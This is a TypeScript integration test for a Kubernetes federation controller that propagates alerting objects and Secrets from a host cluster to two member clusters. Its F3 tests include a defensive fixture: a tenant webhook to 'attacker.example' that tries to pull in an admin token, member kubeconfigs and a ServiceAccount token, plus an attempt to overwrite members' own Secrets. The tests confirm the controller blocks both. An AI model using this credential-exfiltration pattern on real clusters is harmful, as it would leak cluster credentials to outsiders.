/**
 * Federation on real control planes: a host and two members, the propagation controller, and an
 * agent process per member. Objects applied on the host appear on the members (with member-b's
 * override), each member stamps its own name, changes and deletions follow, a hand edit is
 * repaired, a member that is down does not hold up the other, and status says so at each step.
 * Secrets travel only from allowed namespaces, never a member's kubeconfig or a ServiceAccount
 * token, and never over a member's own Secret (F3).
 */
import { fileURLToPath } from 'node:url';
import { CustomObjectsApi, type KubeConfig } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PropagationController } from '../../host/src/propagation/controller.js';
import { startClusters, type ClusterSet } from '../harness/clusters.js';
import { rawRequest } from '../harness/crds.js';
import { apply, loadManifests } from '../support/manifests.js';
import { registerMembers } from '../support/federation.js';
import { until } from '../support/eventually.js';
import { startAgent, type AgentProcess } from '../wire/agent-process.js';
import { startHttpServer, type TestHttpServer } from '../wire/http-server.js';

const API = 'herald.dev/v1alpha1';
let set: ClusterSet;
let host: KubeConfig;
let controller: PropagationController;
let sink: TestHttpServer;
const agents: AgentProcess[] = [];
const logs: Record<string, unknown>[] = [];

const get = async (kc: KubeConfig, plural: string, name: string): Promise<unknown> =>
  kc.makeApiClient(CustomObjectsApi).getClusterCustomObject({ group: 'herald.dev', version: 'v1alpha1', plural, name }).then(
    (o) => o as unknown,
    () => undefined,
  );
/** A field of an object by dotted path (`spec.slack.channels`); undefined when absent. */
const field = (o: unknown, path: string): unknown => path.split('.').reduce<unknown>((v, k) => (v as Record<string, unknown> | undefined)?.[k], o);
type Entry = { name: string; state: string; type: string; status: string };
const entries = (o: unknown, path: string): Entry[] => (field(o, path) as Entry[] | undefined) ?? [];
/** What a timed-out wait shows: the controller's last log entries. */
const wait = { detail: () => `controller said: ${JSON.stringify(logs.slice(-3))}` };
const member = (name: string): KubeConfig => set.kubeConfig(name);
/** The Events on a host object, found as kubectl describe finds them: by kind, name and uid. */
const eventsOn = async (plural: string, kind: string, name: string): Promise<{ reason: string; type: string; message: string; count?: number }[]> => {
  const uid = field(await get(host, plural, name), 'metadata.uid') as string;
  const selector = encodeURIComponent(`involvedObject.kind=${kind},involvedObject.name=${name},involvedObject.uid=${uid}`);
  return (JSON.parse(await rawRequest(host, 'GET', `/api/v1/events?fieldSelector=${selector}`)) as { items: { reason: string; type: string; message: string; count?: number }[] }).items;
};

beforeAll(async () => {
  set = await startClusters({ names: ['hub', 'member-a', 'member-b'] });
  host = set.kubeConfig('hub');
  sink = await startHttpServer({ handler: () => ({ status: 200, body: 'ok' }) });
  await registerMembers(host, set, { 'member-a': { env: 'prod', region: 'eu' }, 'member-b': { env: 'prod', region: 'us' } }, { secretNamespaces: ['apps'] });
  const examples = await loadManifests(fileURLToPath(new URL('../../examples/', import.meta.url)));
  for (const m of examples) if (m.object.kind !== 'MemberCluster' && m.object.kind !== 'Namespace') await apply(host, m.object);
  await apply(host, { apiVersion: API, kind: 'Receiver', metadata: { name: 'sink', labels: { type: 'global' } }, spec: { webhook: { url: sink.origin } } } as never);
  await apply(host, { apiVersion: API, kind: 'Settings', metadata: { name: 'default' }, spec: { batchMaxWait: '0s', stampLabels: ['region'] } } as never);
  controller = new PropagationController({ kc: host, log: (e) => logs.push(e), resyncMs: 1000, maxBackoffMs: 2000, failureThresholdMs: 3000, secretNamespaces: ['herald-system', 'apps'] });
  await controller.start();
}, 120_000);

afterAll(async () => {
  for (const a of agents) await a.stop();
  await controller?.stop();
  await sink?.close();
  await set?.stop();
});

describe('propagation from the host to two members', () => {
  it('applies receivers and configs on both members, with member-b’s override, and says so in status', async () => {
    for (const name of ['member-a', 'member-b']) {
      await until(`global-slack on ${name}`, async () => (await get(member(name), 'receivers', 'global-slack')) !== undefined, wait);
      expect(await get(member(name), 'configs', 'default-email')).toBeDefined();
    }
    expect(field(await get(member('member-a'), 'receivers', 'global-slack'), 'spec.slack.channels')).toEqual(['#alerts']);
    expect(field(await get(member('member-b'), 'receivers', 'global-slack'), 'spec.slack.channels')).toEqual(['#alerts-member-b']);
    // Referenced Secrets travel with the objects, marked as Herald's: its label and the host Secret copied.
    const copied = JSON.parse(await rawRequest(member('member-a'), 'GET', '/api/v1/namespaces/herald-system/secrets/default-email-secret')) as { metadata: { labels: Record<string, string>; annotations: Record<string, string> } };
    expect(copied.metadata.labels['app.kubernetes.io/managed-by']).toBe('herald');
    expect(copied.metadata.annotations['herald.dev/copied-from']).toBe('herald-system/default-email-secret');
    // A webhook URL kept in a Secret (urlFrom) travels the same way.
    await until('the urlFrom Secret on member-a', () =>
      rawRequest(member('member-a'), 'GET', '/api/v1/namespaces/herald-system/secrets/incident-hook-url').then(() => true, () => false), wait);
    await until('status on the host', async () => {
      const o = await get(host, 'receivers', 'global-slack');
      return field(o, 'status.summary') === '2/2' && entries(o, 'status.conditions')[0]?.status === 'True';
    }, wait);
    const o = await get(host, 'receivers', 'global-slack');
    expect(entries(o, 'status.clusters').map((c) => [c.name, c.state])).toEqual([['member-a', 'Applied'], ['member-b', 'Applied']]);
  });

  it('gives each member its own identity in Settings', async () => {
    for (const [name, region] of [['member-a', 'eu'], ['member-b', 'us']]) {
      await until(`Settings on ${name}`, async () => field(await get(member(name as string), 'settings', 'default'), 'spec.cluster.name') === name, wait);
      expect(field(await get(member(name as string), 'settings', 'default'), 'spec.cluster')).toEqual({ name, labels: { region } });
    }
  });

  it('delivers alerts through an agent per member, each stamped with its own cluster', async () => {
    for (const name of ['member-a', 'member-b']) agents.push(await startAgent({ kubeconfig: set.get(name).kubeconfigPath, args: ['--heartbeat-seconds', '1'] }));
    for (const [i, agent] of agents.entries()) {
      const res = await fetch(`${agent.url}/api/v2/alerts`, { method: 'POST', headers: agent.headers('ingest'), body: JSON.stringify({ alerts: [{ labels: { alertname: `Federated${i}`, cluster: 'whatever' } }] }) });
      expect(res.status).toBe(200);
    }
    const clusters = (): string[] => sink.requests.flatMap((r) => (JSON.parse(r.body) as { alerts: { labels: Record<string, string> }[] }).alerts.map((a) => `${a.labels['alertname']}@${a.labels['cluster']}`));
    await until('both alerts at the sink', () => Promise.resolve(clusters().length >= 2), wait);
    expect(clusters().sort()).toEqual(['Federated0@member-a', 'Federated1@member-b']);
  });

  it('propagates an InhibitRule, which each member’s agent accepts and applies to its alerts', async () => {
    await apply(host, {
      apiVersion: API,
      kind: 'InhibitRule',
      metadata: { name: 'federated-down', labels: { type: 'global' } },
      spec: { sourceMatch: { matchLabels: { alertname: 'FederatedDown' } }, targetMatch: { matchLabels: { alertname: 'FederatedPod' } }, equal: ['node'] },
    } as never);
    for (const name of ['member-a', 'member-b']) {
      await until(`the agent on ${name} accepts its copy`, async () => entries(await get(member(name), 'inhibitrules', 'federated-down'), 'status.conditions').find((c) => c.type === 'Accepted')?.status === 'True', wait);
    }
    await until('the host says it is on both', async () => field(await get(host, 'inhibitrules', 'federated-down'), 'status.summary') === '2/2', wait);
    for (const agent of agents) {
      const alerts = [{ labels: { alertname: 'FederatedDown', node: 'n1' } }, { labels: { alertname: 'FederatedPod', node: 'n1' } }];
      const res = await fetch(`${agent.url}/api/v2/alerts`, { method: 'POST', headers: agent.headers('ingest'), body: JSON.stringify({ alerts }) });
      expect(res.status).toBe(200);
      await until(`the pod alert inhibited on ${agent.url}`, async () => {
        const history = await fetch(`${agent.url}/api/v2/history?outcome=inhibited`, { headers: agent.headers('admin') });
        return ((await history.json()) as { entries: { answer: string }[] }).entries.some((e) => e.answer === 'inhibited by federated-down');
      }, wait);
    }
  });

  it('shows each agent’s heartbeat on its MemberCluster and each member’s deliveries on the host Receiver', async () => {
    for (const name of ['member-a', 'member-b']) {
      await until(`AgentReady on ${name}`, async () => {
        const mc = await get(host, 'memberclusters', name);
        return entries(mc, 'status.conditions').find((c) => c.type === 'AgentReady')?.status === 'True' && typeof field(mc, 'status.lastHeartbeatTime') === 'string';
      }, wait);
      await until(`delivery totals of ${name}`, async () => Number(field(await get(host, 'memberclusters', name), 'status.delivery.delivered')) >= 1, wait);
    }
    // The same health as metrics, per member: what an alert rule on "member down" reads.
    const scrape = await controller.metrics.registry.metrics();
    for (const name of ['member-a', 'member-b']) {
      expect(scrape).toContain(`herald_member_ready{cluster="${name}"} 1`);
      expect(scrape).toContain(`herald_member_agent_ready{cluster="${name}"} 1`);
      expect(scrape).toMatch(new RegExp(`^herald_member_last_sync_timestamp_seconds\\{cluster="${name}"\\} \\d{10}`, 'm'));
      expect(scrape).toMatch(new RegExp(`^herald_member_sync_duration_seconds_count\\{cluster="${name}"\\} [1-9]`, 'm'));
    }
    await until('per-member delivery health on the host Receiver', async () => {
      const o = await get(host, 'receivers', 'sink');
      const perMember = (field(o, 'status.clusters') as { name: string; delivery?: { delivered?: number } }[] | undefined) ?? [];
      return perMember.length === 2 && perMember.every((c) => (c.delivery?.delivered ?? 0) >= 1) && Number(field(o, 'status.delivery.delivered')) >= 2;
    }, wait);
    // The agent wrote it on its own copy; the host read it back from there.
    expect(field(await get(member('member-a'), 'receivers', 'sink'), 'status.delivery.delivered')).toBeGreaterThanOrEqual(1);
  });

  it('follows an update on the host, repairs a hand edit on a member, and removes copies of a deleted object', async () => {
    await apply(host, { apiVersion: API, kind: 'Receiver', metadata: { name: 'global-email', labels: { type: 'global' } }, spec: { email: { to: ['changed@example.com'] } } } as never);
    for (const name of ['member-a', 'member-b']) {
      await until(`update on ${name}`, async () => (field(await get(member(name), 'receivers', 'global-email'), 'spec.email.to') as string[])[0] === 'changed@example.com', wait);
    }
    await rawRequest(member('member-a'), 'PATCH', '/apis/herald.dev/v1alpha1/receivers/global-email', { contentType: 'application/merge-patch+json', body: JSON.stringify({ spec: { email: { to: ['hand-edited@example.com'] } } }) });
    await until('hand edit repaired', async () => (field(await get(member('member-a'), 'receivers', 'global-email'), 'spec.email.to') as string[])[0] === 'changed@example.com', wait);
    // Repaired, and reported: an Event on the host object and a counter. The Event is found as
    // kubectl describe finds it, by the object's kind, name and uid.
    const uid = field(await get(host, 'receivers', 'global-email'), 'metadata.uid') as string;
    const describeSelector = encodeURIComponent(`involvedObject.kind=Receiver,involvedObject.name=global-email,involvedObject.uid=${uid}`);
    await until('drift event on the host', async () => {
      const events = JSON.parse(await rawRequest(host, 'GET', `/api/v1/events?fieldSelector=${describeSelector}`)) as { items: { reason: string; message: string }[] };
      return events.items.some((e) => e.reason === 'DriftRepaired' && e.message === 'the copy on member-a was edited there; Herald restored it');
    }, wait);
    expect(await controller.metrics.registry.getSingleMetricAsString('herald_drift_repaired_total')).toContain('herald_drift_repaired_total{cluster="member-a",kind="Receiver",how="edited"} 1');
    await rawRequest(member('member-b'), 'DELETE', '/apis/herald.dev/v1alpha1/receivers/global-email');
    await until('deleted copy restored', async () => (await get(member('member-b'), 'receivers', 'global-email')) !== undefined, wait);
    expect(await controller.metrics.registry.getSingleMetricAsString('herald_drift_repaired_total')).toContain('herald_drift_repaired_total{cluster="member-b",kind="Receiver",how="deleted"} 1');
    // Deletion goes through Herald's finalizer: the host object goes once the copies are gone.
    expect(field(await get(host, 'receivers', 'global-email'), 'metadata.finalizers')).toContain('herald.dev/propagation');
    await rawRequest(host, 'DELETE', '/apis/herald.dev/v1alpha1/receivers/global-email');
    for (const name of ['member-a', 'member-b']) {
      await until(`copy removed from ${name}`, async () => (await get(member(name), 'receivers', 'global-email')) === undefined, wait);
    }
    await until('host object gone', async () => (await get(host, 'receivers', 'global-email')) === undefined, wait);
  });

  it('orphans the copies (and their Secrets) of an object deleted with herald.dev/orphan=true', async () => {
    await apply(host, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'orphan-token', namespace: 'herald-system' }, stringData: { token: 'xoxb-orphan' } } as never);
    await apply(host, {
      apiVersion: API,
      kind: 'Config',
      metadata: { name: 'orphan-slack', labels: { type: 'tenant', namespace: 'orphans' } },
      spec: { slack: { slackTokenSecret: { valueFrom: { secretKeyRef: { namespace: 'herald-system', name: 'orphan-token', key: 'token' } } } } },
    } as never);
    for (const name of ['member-a', 'member-b']) await until(`orphan-slack on ${name}`, async () => (await get(member(name), 'configs', 'orphan-slack')) !== undefined, wait);
    await rawRequest(host, 'PATCH', '/apis/herald.dev/v1alpha1/configs/orphan-slack', { contentType: 'application/merge-patch+json', body: JSON.stringify({ metadata: { annotations: { 'herald.dev/orphan': 'true' } } }) });
    await rawRequest(host, 'DELETE', '/apis/herald.dev/v1alpha1/configs/orphan-slack');
    await until('host object gone', async () => (await get(host, 'configs', 'orphan-slack')) === undefined, wait);
    // Several resyncs later the copies are still there, no longer Herald's.
    await new Promise((r) => setTimeout(r, 3000));
    for (const name of ['member-a', 'member-b']) {
      const copy = await get(member(name), 'configs', 'orphan-slack');
      expect(copy).toBeDefined();
      expect(field(copy, 'metadata.labels')).not.toHaveProperty('app.kubernetes.io/managed-by');
      const secret = JSON.parse(await rawRequest(member(name), 'GET', '/api/v1/namespaces/herald-system/secrets/orphan-token')) as { metadata: { labels?: Record<string, string> } };
      expect(secret.metadata.labels ?? {}).not.toHaveProperty('app.kubernetes.io/managed-by');
    }
  });

  it('copies no Secret from outside the allowed namespaces, no member kubeconfig, no ServiceAccount token (F3)', async () => {
    await apply(host, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'host-admin-token', namespace: 'kube-system' }, stringData: { token: 'HOST-KUBE-SYSTEM-TOKEN-001' } } as never);
    // member-b registered the old way: its kubeconfig beside the Secrets Herald objects may reference.
    const kubeconfigB = (JSON.parse(await rawRequest(host, 'GET', '/api/v1/namespaces/herald-clusters/secrets/member-b-kubeconfig')) as { data: Record<string, string> }).data;
    await apply(host, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'member-b-kubeconfig', namespace: 'herald-system' }, data: kubeconfigB } as never);
    await rawRequest(host, 'PATCH', `/apis/${API}/memberclusters/member-b`, { contentType: 'application/merge-patch+json', body: JSON.stringify({ spec: { kubeconfigSecretRef: { namespace: 'herald-system' } } }) });
    await apply(host, {
      apiVersion: 'v1',
      kind: 'Secret',
      type: 'kubernetes.io/service-account-token',
      metadata: { name: 'sa-token', namespace: 'herald-system', annotations: { 'kubernetes.io/service-account.name': 'default' } },
      stringData: { token: 'SA-TOKEN-003' },
    } as never);
    const ref = (namespace: string, name: string, key: string) => ({ valueFrom: { secretKeyRef: { namespace, name, key } } });
    const tenant = { type: 'tenant', namespace: 'team-a' };
    await apply(host, {
      apiVersion: API,
      kind: 'Receiver',
      metadata: { name: 'team-a-steal', labels: tenant },
      spec: {
        webhook: {
          url: 'https://attacker.example/',
          httpConfig: {
            bearerToken: ref('kube-system', 'host-admin-token', 'token'),
            tlsConfig: { rootCA: ref('herald-system', 'member-b-kubeconfig', 'kubeconfig'), clientCertificate: { cert: ref('herald-clusters', 'member-a-kubeconfig', 'kubeconfig'), key: ref('herald-system', 'default-email-secret', 'password') } },
          },
        },
      },
    } as never);
    await apply(host, { apiVersion: API, kind: 'Config', metadata: { name: 'team-a-token', labels: tenant }, spec: { slack: { slackTokenSecret: ref('herald-system', 'sa-token', 'token') } } } as never);
    const outcomes = async (plural: string, name: string): Promise<Record<string, string>> => {
      const clusters = (field(await get(host, plural, name), 'status.clusters') as { name: string; state: string; message?: string }[] | undefined) ?? [];
      return Object.fromEntries(clusters.map((c) => [c.name, `${c.state}: ${c.message ?? ''}`]));
    };
    // Both members have reconciled both objects once their status says so.
    await until('both objects reconciled on both members', async () => Object.keys(await outcomes('receivers', 'team-a-steal')).length === 2 && Object.keys(await outcomes('configs', 'team-a-token')).length === 2, wait);
    // Nothing that references them reached a member, and neither did they.
    for (const name of ['member-a', 'member-b']) {
      for (const path of ['kube-system/secrets/host-admin-token', 'herald-system/secrets/member-b-kubeconfig', 'herald-clusters/secrets/member-a-kubeconfig', 'herald-system/secrets/sa-token']) {
        await expect(rawRequest(member(name), 'GET', `/api/v1/namespaces/${path}`), `${name}: ${path}`).rejects.toThrow(/HTTP 404/);
      }
      expect(await get(member(name), 'receivers', 'team-a-steal')).toBeUndefined();
      expect(await get(member(name), 'configs', 'team-a-token')).toBeUndefined();
    }
    for (const [name, message] of Object.entries(await outcomes('receivers', 'team-a-steal'))) {
      expect(message, name).toMatch(/^ApplyFailed: /);
      expect(message, name).toContain('Secret kube-system/host-admin-token is not in an allowed namespace (herald-host --secret-namespace: herald-system, apps)');
      expect(message, name).toContain("Secret herald-system/member-b-kubeconfig is the kubeconfig of MemberCluster member-b; Herald never propagates a member's credentials");
      expect(message, name).toContain('Secret herald-clusters/member-a-kubeconfig is the kubeconfig of MemberCluster member-a');
    }
    for (const message of Object.values(await outcomes('configs', 'team-a-token'))) {
      expect(message).toBe('ApplyFailed: Secret herald-system/sa-token is of type kubernetes.io/service-account-token; Herald never propagates ServiceAccount tokens');
    }
    // kubectl describe shows why, once per member, as a Warning on the object.
    await until('ApplyFailed Events on team-a-token', async () => (await eventsOn('configs', 'Config', 'team-a-token')).filter((e) => e.reason === 'ApplyFailed').length === 2, wait);
    for (const e of (await eventsOn('configs', 'Config', 'team-a-token')).filter((x) => x.reason === 'ApplyFailed')) {
      expect(e.type).toBe('Warning');
      expect(e.message).toMatch(/^on member-[ab]: Secret herald-system\/sa-token is of type kubernetes.io\/service-account-token/);
    }
    for (const [plural, name] of [['receivers', 'team-a-steal'], ['configs', 'team-a-token']] as const) await rawRequest(host, 'DELETE', `/apis/${API}/${plural}/${name}`);
  });

  it('never overwrites or deletes a member’s own Secret of the same name (F3)', async () => {
    await rawRequest(host, 'POST', '/api/v1/namespaces', { body: JSON.stringify({ metadata: { name: 'apps' } }) });
    await apply(host, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db-tls', namespace: 'apps' }, stringData: { 'ca.crt': 'ATTACKER-REPLACED' } } as never);
    // member-a's own Secret, and member-b's, which someone labelled managed-by=herald by hand.
    const own = { 'member-a': { data: 'MEMBER-A-OWN', labels: {} }, 'member-b': { data: 'MEMBER-B-OWN', labels: { 'app.kubernetes.io/managed-by': 'herald' } } };
    for (const [name, o] of Object.entries(own)) {
      await apply(member(name), { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db-tls', namespace: 'apps', labels: o.labels }, stringData: { 'ca.crt': o.data } } as never);
    }
    await apply(host, {
      apiVersion: API,
      kind: 'Receiver',
      metadata: { name: 'db-webhook', labels: { type: 'global' } },
      spec: { webhook: { url: sink.origin, httpConfig: { tlsConfig: { rootCA: { valueFrom: { secretKeyRef: { namespace: 'apps', name: 'db-tls', key: 'ca.crt' } } } } } } },
    } as never);
    const states = async (): Promise<(Entry & { message?: string })[]> => entries(await get(host, 'receivers', 'db-webhook'), 'status.clusters');
    await until('db-webhook reconciled on both members', async () => (await states()).length === 2, wait);
    const untouched = async (): Promise<void> => {
      for (const [name, o] of Object.entries(own)) {
        const s = JSON.parse(await rawRequest(member(name), 'GET', '/api/v1/namespaces/apps/secrets/db-tls')) as { data: Record<string, string>; metadata: { labels?: Record<string, string>; annotations?: Record<string, string> } };
        expect(Buffer.from(s.data['ca.crt'] ?? '', 'base64').toString(), name).toBe(o.data);
        expect(s.metadata.labels ?? {}, name).toEqual(o.labels);
        expect(s.metadata.annotations ?? {}, name).not.toHaveProperty('herald.dev/copied-from');
        // The Receiver would read the member's Secret: it is not placed there either.
        expect(await get(member(name), 'receivers', 'db-webhook'), name).toBeUndefined();
      }
    };
    await untouched();
    for (const c of await states()) {
      expect([c.state, c.message]).toEqual(['ApplyFailed', `Secret apps/db-tls exists on ${c.name} and was not created by Herald; Herald will not overwrite it`]);
    }
    await rawRequest(host, 'DELETE', `/apis/${API}/receivers/db-webhook`);
    await until('db-webhook gone from the host', async () => (await get(host, 'receivers', 'db-webhook')) === undefined, wait);
    // Several resyncs (1 s) later the members' Secrets are still there, as they were.
    await new Promise((r) => setTimeout(r, 3000));
    await untouched();
  });

  it('with member-b down: member-b turns not Ready, member-a keeps receiving changes, and member-b converges after', async () => {
    await set.get('member-b').stop();
    const ready = async (): Promise<string | undefined> => entries(await get(host, 'memberclusters', 'member-b'), 'status.conditions').find((c) => c.type === 'Ready')?.status;
    await until('member-b not Ready', async () => (await ready()) === 'False', wait);
    await until('a MemberNotReady Event on member-b', async () => (await eventsOn('memberclusters', 'MemberCluster', 'member-b')).some((e) => e.reason === 'MemberNotReady' && e.type === 'Warning'), wait);
    const agentReady = entries(await get(host, 'memberclusters', 'member-b'), 'status.conditions').find((c) => c.type === 'AgentReady');
    expect(agentReady?.status).toBe('Unknown');
    const down = await controller.metrics.registry.metrics();
    expect(down).toContain('herald_member_ready{cluster="member-b"} 0');
    expect(down).toContain('herald_member_agent_ready{cluster="member-b"} 0');
    await apply(host, { apiVersion: API, kind: 'Receiver', metadata: { name: 'during-outage', labels: { type: 'global' } }, spec: { slack: { channels: ['#outage'] } } } as never);
    await until('member-a gets the change', async () => (await get(member('member-a'), 'receivers', 'during-outage')) !== undefined, wait);
    await until('status says member-b is not ready', async () => {
      const o = await get(host, 'receivers', 'during-outage');
      return field(o, 'status.summary') === '1/2' && entries(o, 'status.clusters').find((c) => c.name === 'member-b')?.state === 'ClusterNotReady';
    }, wait);
    // A member that is down does not hold up a deletion.
    await rawRequest(host, 'DELETE', '/apis/herald.dev/v1alpha1/receivers/global-slack');
    await until('global-slack gone from the host while member-b is down', async () => (await get(host, 'receivers', 'global-slack')) === undefined, wait);
    await until('global-slack removed from member-a', async () => (await get(member('member-a'), 'receivers', 'global-slack')) === undefined, wait);
    await set.get('member-b').start();
    await until('member-b’s stale copy pruned once it is back', async () => (await get(member('member-b'), 'receivers', 'global-slack')) === undefined, { ...wait, ms: 60_000 });
    await until('member-b converges', async () => (await get(member('member-b'), 'receivers', 'during-outage')) !== undefined, { ...wait, ms: 60_000 });
    await until('status converges', async () => field(await get(host, 'receivers', 'during-outage'), 'status.summary') === '2/2', { ...wait, ms: 60_000 });
    expect(await ready()).toBe('True');
    await until('a MemberReady Event on member-b', async () => (await eventsOn('memberclusters', 'MemberCluster', 'member-b')).some((e) => e.reason === 'MemberReady' && e.type === 'Normal'), wait);
    // Down once: an Event when it went down, not one per failed pass (several passes failed). A
    // pass may read the member's status before the first write reaches the host's cache: at most two.
    const downs = (await eventsOn('memberclusters', 'MemberCluster', 'member-b')).filter((e) => e.reason === 'MemberNotReady');
    expect(downs.length).toBeGreaterThanOrEqual(1);
    expect(downs.length).toBeLessThanOrEqual(2);
  });
});
